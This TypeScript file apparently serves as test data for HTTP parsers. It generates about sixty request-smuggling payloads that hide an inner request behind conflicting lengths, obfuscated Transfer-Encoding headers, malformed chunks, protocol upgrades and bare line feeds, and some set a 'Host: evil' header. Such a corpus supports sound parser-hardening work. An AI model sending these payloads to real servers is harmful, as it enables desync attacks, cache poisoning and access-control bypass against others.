/**
 * Requests whose end parsers disagree about, after the published lists of request smuggling: two lengths, a length beside
 * chunks, codings spelled so that one side sees them and the other does not, chunk sizes and lines that are nearly right,
 * request lines and header lines that are nearly none. Data only: each is an attack of bytes, in which `INNER` stands
 * where the attacker hopes that somebody reads a request of its own.
 */

export interface Smuggle {
  readonly name: string;
  /** As sent, one character a byte. */
  readonly bytes: string;
}

/** Makes the attacks for one host. `inner` is the target of the request that is hidden in each. */
export function buildSmuggles(host: string, innerOf: (index: number) => string): readonly Smuggle[] {
  return ATTACKS.map(([name, attack], index) => {
    const inner = `GET ${innerOf(index)} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    return { name, bytes: attack({ host, inner, target: `/attack-${index}` }) };
  });
}

interface Parts {
  readonly host: string;
  readonly inner: string;
  readonly target: string;
}
type Attack = readonly [name: string, (parts: Parts) => string];

const post = ({ host, target }: Parts, ...lines: string[]): string =>
  `POST ${target} HTTP/1.1\r\nHost: ${host}\r\n${lines.map((line) => `${line}\r\n`).join("")}\r\n`;
const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
const END = "0\r\n\r\n";

/** A POST with these header lines, and the inner request as what follows its head. */
const framed = (name: string, ...lines: string[]): Attack => [
  name,
  (parts) => post(parts, ...lines) + parts.inner,
];
/** A chunked POST whose chunks are written by hand. */
const chunked = (name: string, body: (parts: Parts) => string): Attack => [
  name,
  (parts) => post(parts, "Transfer-Encoding: chunked") + body(parts),
];
/** Chunks end before the inner request for whoever sees the coding; the length covers it for whoever does not. */
const coded = (name: string, line: string): Attack => [
  name,
  (parts) => post(parts, `Content-Length: ${END.length + parts.inner.length}`, line) + END + parts.inner,
];

const ATTACKS: readonly Attack[] = [
  // Lengths.
  framed("two lengths", "Content-Length: 0", "Content-Length: 60"),
  framed("two lengths the other way", "Content-Length: 60", "Content-Length: 0"),
  framed("lengths in a list", "Content-Length: 0, 60"),
  framed("equal lengths in a list", "Content-Length: 0, 0"),
  framed("a length with a plus", "Content-Length: +0"),
  framed("a negative length", "Content-Length: -1"),
  framed("a length in hexadecimal", "Content-Length: 0x0"),
  framed("a length with an exponent", "Content-Length: 0e1"),
  framed("a length with a gap", "Content-Length: 0 60"),
  framed("a length beyond every number", "Content-Length: 18446744073709551616"),
  framed("an empty length", "Content-Length:"),
  framed("a length with a space before its colon", "Content-Length : 0"),
  framed("a length with an underscore", "Content_Length: 60"),
  framed("a length named in Connection", "Content-Length: 0", "Connection: Content-Length, keep-alive"),
  framed("a length after a line that is none", "X-A", "Content-Length: 60"),
  // A length beside chunks, and codings that one side might not see.
  coded("chunks beside a length", "Transfer-Encoding: chunked"),
  coded("a coding with a space before its colon", "Transfer-Encoding : chunked"),
  coded("a coding after a tab", "Transfer-Encoding:\tchunked"),
  coded("a coding after a vertical tab", "Transfer-Encoding: \x0bchunked"),
  coded("a coding with a tail", "Transfer-Encoding: chunked\x00"),
  coded("a coding in quotes", 'Transfer-Encoding: "chunked"'),
  coded("a coding with a parameter", "Transfer-Encoding: chunked;a=b"),
  coded("a coding that is nearly chunked", "Transfer-Encoding: xchunked"),
  coded("identity", "Transfer-Encoding: identity"),
  coded("chunked, then identity", "Transfer-Encoding: chunked, identity"),
  coded("identity, then chunked", "Transfer-Encoding: identity, chunked"),
  coded("chunked twice", "Transfer-Encoding: chunked, chunked"),
  coded("two codings", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
  coded("two codings the other way", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked"),
  coded("a folded coding", "Transfer-Encoding:\r\n chunked"),
  coded("a coding behind a bare line feed", "X-A: b\nTransfer-Encoding: chunked"),
  coded("a coding behind a bare carriage return", "X-A: b\rTransfer-Encoding: chunked"),
  coded("a coding with an underscore", "Transfer_Encoding: chunked"),
  coded("a coding named in Connection", "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding"),
  [
    "chunks in HTTP/1.0",
    (parts) =>
      post(parts, "Content-Length: 5", "Transfer-Encoding: chunked").replace("HTTP/1.1", "HTTP/1.0") +
      END +
      parts.inner,
  ],
  // Chunks.
  chunked("a chunk size in 0x", ({ inner }) => `0x0\r\n\r\n${inner}`),
  chunked("a chunk size with a plus", ({ inner }) => `+0\r\n\r\n${inner}`),
  chunked("a chunk size that overflows", ({ inner }) => `10000000000000000\r\n${inner}`),
  chunked("a negative chunk size", ({ inner }) => `-1\r\n${inner}`),
  chunked("a chunk with an extension", ({ inner }) => `2;a=b\r\nhi\r\n${END}${inner}`),
  chunked("a bare line feed in an extension", ({ inner }) => `2;a\nhi\r\n${END}${inner}`),
  chunked("a bare line feed after a size", ({ inner }) => `2\nhi\r\n${END}${inner}`),
  chunked("no line end after a chunk", ({ inner }) => `2\r\nhixx${END}${inner}`),
  chunked("a bare line feed after a chunk", ({ inner }) => `2\r\nhi\n${END}${inner}`),
  chunked(
    "trailers that frame and route",
    ({ inner }) => `0\r\nContent-Length: 60\r\nHost: evil\r\n\r\n${inner}`,
  ),
  chunked("the inner request as a chunk", ({ inner }) => chunk(inner) + END),
  // Bodies where nobody expects them, and what is no request.
  [
    "a GET with a body",
    ({ host, target, inner }) =>
      `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  ],
  [
    "an OPTIONS for the load balancer with a body",
    ({ inner }) => `OPTIONS / HTTP/1.1\r\nHost: 10.0.0.1\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  ],
  [
    "a refused host with a body",
    ({ inner }) => `POST / HTTP/1.1\r\nHost: a_b\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  ],
  [
    "a body that waits to be asked for",
    ({ host, target, inner }) =>
      `POST ${target} HTTP/1.1\r\nHost: ${host}\r\nExpect: 100-continue\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
  ],
  [
    "an upgrade to another protocol",
    ({ host, target, inner }) =>
      `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n${inner}`,
  ],
  [
    "a WebSocket that is none",
    ({ host, target, inner }) =>
      `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x\r\n\r\n${inner}`,
  ],
  ["the preface of HTTP/2", ({ inner }) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${inner}`],
  ["HTTP/0.9", ({ inner, target }) => `GET ${target}\r\n${inner}`],
  [
    "two versions",
    ({ host, target, inner }) => `GET ${target} HTTP/1.1 HTTP/1.1\r\nHost: ${host}\r\n\r\n${inner}`,
  ],
  [
    "a line feed in the target",
    ({ host, target, inner }) => `GET ${target}\n HTTP/1.1\r\nHost: ${host}\r\n\r\n${inner}`,
  ],
  [
    "a first header line with a space",
    ({ host, target, inner }) => `GET ${target} HTTP/1.1\r\n Host: ${host}\r\nHost: evil\r\n\r\n${inner}`,
  ],
  [
    "a null byte in a header's name",
    ({ host, target, inner }) => `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nX\x00: y\r\n\r\n${inner}`,
  ],
];
